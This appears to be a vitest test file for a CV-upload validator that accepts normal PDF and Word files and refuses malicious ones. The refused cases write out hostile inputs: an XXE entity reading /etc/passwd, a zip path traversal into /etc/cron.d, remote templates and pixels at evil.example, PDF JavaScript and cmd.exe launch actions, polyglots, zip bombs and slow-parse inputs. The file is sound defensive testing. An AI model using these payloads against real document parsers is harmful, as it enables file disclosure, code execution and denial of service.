import { expect, test } from "vitest";
import { compoundFile, docm, docx, outside, pdf, program, settingsWith, zip } from "@/tests/support/attack-files";
import { checkCv } from "./check";
import { CV_REFUSALS } from "./refusals";
import { MAX_CV_BYTES } from "../schema";

const text = (value: string) => Buffer.from(value, "latin1");
const padded = (megabytes: number) => pdf({ extra: `5 0 obj\n(${"x".repeat(megabytes * 1024 * 1024)})\nendobj\n` });

test.each([
  ["a PDF", pdf(), "pdf"],
  ["a PDF that a printer put a line before", pdf({ before: "\x1b%-12345X@PJL\n" }), "pdf"],
  ["a PDF with blank bytes behind its end", pdf({ after: "\r\n\0\0\0".repeat(2000) }), "pdf"],
  [
    "a PDF of a developer who writes CSS/JavaScript (React)",
    pdf({ extra: "4 0 obj\n(CSS/JavaScript (React))\nendobj\n" }),
    "pdf",
  ],
  ["a PDF just below 5 MB", padded(4.9), "pdf"],
  ["a Word document", docx(), "docx"],
  [
    "a Word document with links and a picture",
    docx(settingsWith(outside("https://sam.example", "hyperlink")), { name: "word/media/image1.png", content: "png" }),
    "docx",
  ],
  [
    "a Word document made from a template on its writer's disk",
    docx(settingsWith(outside("file:///C:\\Users\\sam\\CV.dotx"))),
    "docx",
  ],
])("%s is taken", async (_, bytes, kind) => {
  expect(await checkCv(bytes)).toEqual({ ok: true, kind });
});

test.each([
  ["0 bytes", Buffer.alloc(0), "empty"],
  ["6 MB", padded(6), "too-large"],
  ["a program renamed to cv.pdf", program(), "another-kind"],
  ["a web page renamed to cv.pdf", text("<!doctype html><script>alert(1)</script>"), "another-kind"],
  ["a picture", text("\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), "picture"],
  ["a text file", text("Sam Okafor, planner"), "another-kind"],
  ["an old .doc or a Word file with a password", compoundFile(), "old-word"],
  ["a ZIP renamed to cv.docx", zip([{ name: "cv.txt", content: "Sam" }]), "not-word"],
  [
    "a spreadsheet",
    zip([
      { name: "[Content_Types].xml", content: "<Types/>" },
      { name: "xl/workbook.xml", content: "" },
    ]),
    "not-word",
  ],
  ["a ZIP that only has the document part", zip([{ name: "word/document.xml", content: "<w:document/>" }]), "not-word"],
  ["a ZIP cut in half", docx().subarray(0, 200), "damaged"],
  ["a ZIP with a password", docx({ name: "word/styles.xml", content: "x", encrypted: true }), "locked"],
  ["a macro document by its type", docm(), "macros"],
  ["a macro document by its part", docx({ name: "word/vbaProject.bin", content: "x" }), "macros"],
  ["a document with an embedded object", docx({ name: "word/embeddings/oleObject1.bin", content: "x" }), "macros"],
  ["a document with an ActiveX control", docx({ name: "word/activeX/activeX1.xml", content: "x" }), "macros"],
  ["a template from the internet", docx(settingsWith(outside("https://evil.example/t.dotm"))), "remote"],
  ["a template from a network share", docx(settingsWith(outside("\\\\evil.example\\t.dotm"))), "remote"],
  ["a template by a file address with a host", docx(settingsWith(outside("file://evil.example/t.dotm"))), "remote"],
  ["a picture that reports home", docx(settingsWith(outside("http://evil.example/pixel.png", "image"))), "remote"],
  [
    "a template spelt in character references",
    docx(settingsWith(outside("&#104;ttps://evil.example", "attachedTemplate", 'TargetMode="&#x45;xternal"'))),
    "remote",
  ],
  [
    "a template behind a bracket in quotes",
    docx(settingsWith(outside("https://evil.example", "attachedTemplate", 'Note=">" TargetMode="External"'))),
    "remote",
  ],
  [
    "an attack on XML readers",
    docx({ name: "word/styles.xml", content: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }),
    "damaged",
  ],
  ["a name that climbs out of its folder", docx({ name: "../../etc/cron.d/x", content: "x" }), "damaged"],
  [
    "a part that says it is small and is not",
    docx({ name: "word/a.xml", content: Buffer.alloc(900_000), saysBytes: 10 }),
    "damaged",
  ],
  ["a bomb by ratio", docx({ name: "word/a.bin", content: Buffer.alloc(20 * 1024 * 1024) }), "bomb"],
  [
    "a bomb by many parts",
    docx(...Array.from({ length: 2001 }, (_, i) => ({ name: `word/${i}.xml`, content: "" }))),
    "bomb",
  ],
  ["an endless list of relations", docx(settingsWith("<Relationship ".repeat(80_000))), "bomb"],
  ["a PDF with a password, its key in the trailer", pdf({ trailer: "/Encrypt 8 0 R " }), "locked"],
  ["a PDF with a password, its key in place", pdf({ trailer: "/Encrypt<</Filter/Standard>> " }), "locked"],
  ["a PDF cut in half", pdf().subarray(0, 150), "damaged"],
  ["a PDF that is only a header", text("%PDF-1.7\n"), "damaged"],
  ["a PDF without pages", text("%PDF-1.7\nstartxref\n0\n%%EOF"), "empty"],
  ["a PDF with a program", pdf({ extra: "4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n" }), "macros"],
  ["a PDF that starts a program", pdf({ extra: "4 0 obj\n<< /S/Launch /F (cmd.exe) >>\nendobj\n" }), "macros"],
  ["a program and a PDF in one", Buffer.concat([program().subarray(0, 512), pdf()]), "two-in-one"],
  ["a web page and a PDF in one", pdf({ before: "<html><script>alert(1)</script>" }), "two-in-one"],
  ["a PDF and a ZIP in one", Buffer.concat([pdf(), docx()]), "two-in-one"],
  ["a PDF with a book behind it", pdf({ after: "x".repeat(2000) }), "two-in-one"],
] as const)("%s is refused", async (_, bytes, reason) => {
  expect(await checkCv(bytes)).toEqual({ ok: false, reason });
});

test("whatever the size, the judgement takes no long thought", async () => {
  const endless = [
    pdf({ after: " ".repeat(MAX_CV_BYTES - 1000) + "x" }),
    pdf({ extra: "/Encrypt ".repeat(500_000) }),
    pdf({ extra: `/Encrypt${" ".repeat(4_500_000)}1` }),
    docx({ name: "word/_rels/a.rels", content: "<Relationship".repeat(75_000) }),
  ];

  const started = performance.now();
  // What is thought over again and again takes minutes; a busy machine a few seconds.
  for (const bytes of endless) expect(await checkCv(bytes)).toBeDefined();

  expect(performance.now() - started).toBeLessThan(20_000);
});

test("every refusal says what to do instead", () => {
  for (const { say } of Object.values(CV_REFUSALS)) expect(say).toMatch(/\b(save|open)\b.*\bchoose\b/i);
});
